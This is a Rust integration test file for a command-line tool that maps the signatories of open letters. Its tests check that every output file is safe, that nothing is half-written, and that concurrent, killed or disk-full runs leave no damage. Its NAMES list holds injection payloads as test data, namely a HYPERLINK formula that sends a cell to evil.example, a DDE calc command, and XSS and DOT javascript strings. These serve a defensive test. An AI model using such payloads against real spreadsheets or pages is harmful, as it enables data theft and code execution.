//! Bad input and bad luck through the whole program: from documents to every file that is written.

#![allow(clippy::unwrap_used, reason = "a test fails loudly")]

use std::fs;
use std::path::Path;
use std::process::{Child, Command, Output, Stdio};
use std::time::Instant;
use tempfile::TempDir;

/// What the analyst may call somebody, and what a page may hold: each is code to some program that reads our files.
const NAMES: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "@sum(1+1)*cmd|' /C calc'!A0",
    "-2+3, Esq.",
    "\u{ff1d}1+1",
    "\"><script>alert(1)</script>",
    "<foreignObject>]]>&#0;</foreignObject>",
    "a\" ]; node [URL=\"javascript:alert(1)",
    "back\\slash\\N\\G\\l\\",
    "two\nlines, and a \"quote\"",
];

const PEOPLE: [&str; 9] = [
    "Mara Ostrander",
    "Tobias Wend",
    "Ada Ashgrove",
    "Ines Calloway",
    "Petra Lundqvist",
    "Rowan Tideswell",
    "Edda Marsh",
    "Joris Penhale",
    "Lena Quill",
];

fn undersigned(args: &[&str], folder: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_undersigned"));
    command.args(args).current_dir(folder).stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
    command
}

fn write(folder: &Path, path: &str, text: &str) {
    let path = folder.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// A folder with `letters/a.txt`, signed by all `PEOPLE`.
fn letters() -> TempDir {
    let folder = TempDir::new().unwrap();
    let rows: String =
        PEOPLE.iter().enumerate().map(|(at, name)| format!("{}. {name}, Quay Watch\n", at + 1)).collect();
    let head =
        "Open Letter to the Harbour Board\n\n3 May 2021\n\nWe ask the board to keep the ferry.\n\nSigned by:\n\n";
    write(folder.path(), "letters/a.txt", &format!("{head}{rows}"));
    folder
}

fn told(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// The rows of a table, without its header.
fn rows(out: &Path, name: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_path(out.join(name)).unwrap().records().map(Result::unwrap).collect()
}

fn tables(out: &Path) -> Vec<String> {
    let names = fs::read_dir(out).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
    names.filter(|name| name.ends_with(".csv")).collect()
}

/// Nothing hidden is left beside the outputs.
fn assert_tidy(folder: &Path) {
    let names = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
    let left: Vec<_> = names.filter(|name| name.starts_with('.')).collect();
    assert!(left.is_empty(), "{left:?}");
}

/// The figure and `run.json` of one folder are of one run, told by its title.
fn assert_of_one_run(out: &Path, titles: [&str; 2]) {
    let [run, figure] = ["run.json", "network.svg"].map(|name| fs::read_to_string(out.join(name)).unwrap());
    let [a, b] = titles.map(|title| (run.contains(title), figure.contains(title)));
    assert!(a.0 == a.1 && b.0 == b.1 && a.0 != b.0, "mixed: {a:?} {b:?}");
}

#[test]
fn names_that_are_code_are_text_in_every_file() {
    let folder = letters();
    let mut decisions = csv::Writer::from_path(folder.path().join("letters/decisions.csv")).unwrap();
    decisions.write_record("kind,left,left_in,right,right_in,judgement,by,date,note".split(',')).unwrap();
    for (person, name) in PEOPLE.iter().zip(NAMES) {
        decisions.write_record(["person", person, "", name, "", "rename", "", "", ""]).unwrap();
    }
    drop(decisions);
    write(
        folder.path(),
        "letters/=1+1,\"b\".txt",
        "Mara \"The Tide\" Ostrander said, \"=1+1\"\n\n- Edda Marsh spoke.\n",
    );
    let output = undersigned(&["build", "letters", "-o", "out", "--title", "<script>\" ]; =1"], folder.path());
    let output = { output }.output().unwrap();
    assert_eq!((output.status.code(), told(&output).as_str()), (Some(0), ""));
    let out = folder.path().join("out");

    for name in tables(&out) {
        for cell in rows(&out, &name).iter().flatten() {
            assert!(!cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\u{ff1d}']), "{name}: {cell:?}");
            assert!(!cell.contains(['\n', '\r', '\\']), "{name}: {cell:?}");
        }
    }
    let labels: Vec<_> = rows(&out, "nodes.csv").iter().map(|row| row[1].to_owned()).collect();
    assert!(labels.contains(&format!("'{}", NAMES[0])) && labels.contains(&NAMES[4].to_owned()), "{labels:?}");

    let svg = fs::read_to_string(out.join("network.svg")).unwrap();
    let figure = roxmltree::Document::parse(&svg).unwrap();
    for node in figure.descendants().filter(roxmltree::Node::is_element) {
        assert!(!["script", "foreignObject", "a"].contains(&node.tag_name().name()), "{node:?}");
        assert!(node.attributes().all(|attribute| !attribute.name().starts_with("on")), "{node:?}");
    }
    assert!(figure.descendants().any(|node| node.text().is_some_and(|text| text.contains("<script>alert(1)"))));

    // Graphviz, where it is, reads back as many names as there are.
    let dot = Command::new("dot").args(["-Tplain"]).arg(out.join("network.dot")).output();
    if let Ok(dot) = dot {
        let plain = String::from_utf8_lossy(&dot.stdout).into_owned();
        assert!(dot.status.success(), "{}", told(&dot));
        assert_eq!(plain.lines().filter(|line| line.starts_with("node ")).count(), labels.len(), "{plain}");
    }
    for args in [["why", "letters", "p-lines"], ["show", "letters/=1+1,\"b\".txt", "-v"]] {
        let output = undersigned(&args, folder.path()).output().unwrap();
        assert!(!told(&output).contains("panicked"), "{}", told(&output));
    }
}

/// A line beyond all measure is read to its end.
fn assert_read_whole(filler: &str) {
    let folder = TempDir::new().unwrap();
    let head = "Mara Ostrander, Chair of Quay Watch, said the ferry must stay. ";
    let foot = ". Tobias Wend, of the Ferry Users Association, said the board had failed.";
    write(folder.path(), "a.txt", &format!("{head}{}{foot}", filler.repeat(50_000_000 / filler.len())));
    let output = undersigned(&["build", "a.txt", "-o", "out"], folder.path()).output().unwrap();
    assert_eq!((output.status.code(), told(&output).as_str()), (Some(0), ""));
    let names: Vec<_> = rows(&folder.path().join("out"), "nodes.csv").iter().map(|row| row[1].to_owned()).collect();
    for name in ["Mara Ostrander", "Quay Watch", "Tobias Wend", "Ferry Users Association"] {
        assert!(names.iter().any(|found| found == name), "{name} is not in {names:?}");
    }
}

#[test]
fn one_line_of_fifty_megabytes_gives_the_names_at_its_head_and_foot() {
    assert_read_whole("the ferry was late again and nobody on the quay said why, ");
}

#[test]
fn a_reader_that_goes_away_ends_every_command_quietly() {
    let folder = letters();
    for args in [
        vec!["build", "letters", "-v", "-o", "out"],
        vec!["show", "letters/a.txt"],
        vec!["why", "letters", "Mara Ostrander"],
        vec!["why", "letters", "Mara Ostrander", "Tobias Wend"],
        vec!["rules"],
        vec!["rules", "signature"],
        vec!["settings"],
        vec!["man"],
        vec!["completions", "bash"],
        vec![],
    ] {
        // A cache of its own: that another test uses the common one would be told.
        let cache = folder.path().join("cache");
        let mut child = undersigned(&args, folder.path()).env("UNDERSIGNED_CACHE", cache).spawn().unwrap();
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        assert_eq!((output.status.code(), told(&output).as_str()), (Some(0), ""), "{args:?}");
    }
    assert!(folder.path().join("out/nodes.csv").exists(), "the work is done all the same");
}

#[test]
fn names_in_letters_that_only_look_alike_are_asked_about() {
    let folder = letters();
    // A Cyrillic letter in one name, full-width letters in another.
    let disguised = "Open Letter to the Quay Board\n\nWe ask again.\n\nSigned by:\n\n1. M\u{430}ra Ostrander\n2. \u{ff34}obias Wend\n3. Ada Ashgrove\n";
    write(folder.path(), "letters/b.txt", disguised);
    assert!(undersigned(&["build", "letters", "-o", "out"], folder.path()).status().unwrap().success());
    let out = folder.path().join("out");
    let asked: Vec<_> = rows(&out, "alike.csv").iter().map(|row| row[6].to_string()).collect();
    assert_eq!(asked.iter().filter(|why| why.contains("mixed-script")).count(), 2, "{asked:?}");
    let labels: Vec<_> = rows(&out, "nodes.csv").iter().map(|row| row[1].to_string()).collect();
    for name in ["Mara Ostrander", "M\u{430}ra Ostrander", "Tobias Wend", "\u{ff34}obias Wend"] {
        assert_eq!(labels.iter().filter(|label| *label == name).count(), 1, "{name}: {labels:?}");
    }
}

#[test]
fn two_runs_into_one_folder_never_mix() {
    let folder = letters();
    let titles = ["First of two", "Second of two"];
    for _ in 0..5 {
        let start = |title: &&str| -> Child {
            undersigned(&["build", "letters", "-o", "out", "--title", title], folder.path()).spawn().unwrap()
        };
        let runs: Vec<_> = titles.iter().map(start).collect();
        let ended: Vec<_> = runs.into_iter().map(|run| run.wait_with_output().unwrap()).collect();
        assert!(ended.iter().any(|run| run.status.success()), "{}", told(&ended[0]));
        for run in ended.iter().filter(|run| !run.status.success()) {
            assert!(run.status.code() == Some(2) && told(run).contains("another run"), "{}", told(run));
        }
        assert_of_one_run(&folder.path().join("out"), titles);
    }
    assert_tidy(folder.path());
}

#[test]
fn a_run_that_is_killed_leaves_the_old_files_whole() {
    let folder = letters();
    let (out, titles) = (folder.path().join("out"), ["Before the kill", "After the kill"]);
    let run = |title| undersigned(&["build", "letters", "-q", "-o", "out", "--title", title], folder.path());
    assert!(run(titles[0]).status().unwrap().success());
    let start = Instant::now();
    assert!(run(titles[0]).status().unwrap().success());
    let whole = start.elapsed();
    for step in 1..=20 {
        let mut child = run(titles[step % 2]).spawn().unwrap();
        std::thread::sleep(whole * step as u32 / 18);
        child.kill().unwrap();
        child.wait().unwrap();
        // Between its two moves the folder is away for a moment; the next run puts it back.
        if out.exists() {
            assert_of_one_run(&out, titles);
        }
    }
    assert!(run(titles[1]).status().unwrap().success());
    assert_of_one_run(&out, titles);
    assert_tidy(folder.path());
}

#[cfg(target_os = "linux")]
#[test]
fn an_output_folder_that_cannot_be_written_is_told_before_any_work() {
    let folder = letters();
    // Not even root may make a folder there.
    let output = undersigned(&["build", "letters", "-o", "/proc/undersigned"], folder.path()).output().unwrap();
    let told = told(&output);
    assert_eq!(output.status.code(), Some(2), "{told}");
    for word in ["error: cannot write /proc", "cause: ", "help: ", "-o"] {
        assert!(told.contains(word), "{told}");
    }
    assert!(output.stdout.is_empty());
}

#[cfg(target_os = "linux")]
#[test]
fn a_disk_that_takes_no_more_leaves_the_old_files() {
    let folder = letters();
    assert!(undersigned(&["build", "letters", "-o", "out"], folder.path()).status().unwrap().success());
    let old = fs::read(folder.path().join("out/run.json")).unwrap();
    let script = "trap '' XFSZ; ulimit -f 2; exec \"$0\" build letters -o out --title New";
    let output = Command::new("sh")
        .args(["-c", script, env!("CARGO_BIN_EXE_undersigned")])
        .current_dir(folder.path())
        .output()
        .unwrap();
    let told = told(&output);
    assert_eq!(output.status.code(), Some(2), "{told}");
    assert!(told.contains("error: cannot write ") && told.contains("the disk has room"), "{told}");
    assert_eq!(fs::read(folder.path().join("out/run.json")).unwrap(), old);
    assert_tidy(folder.path());
}
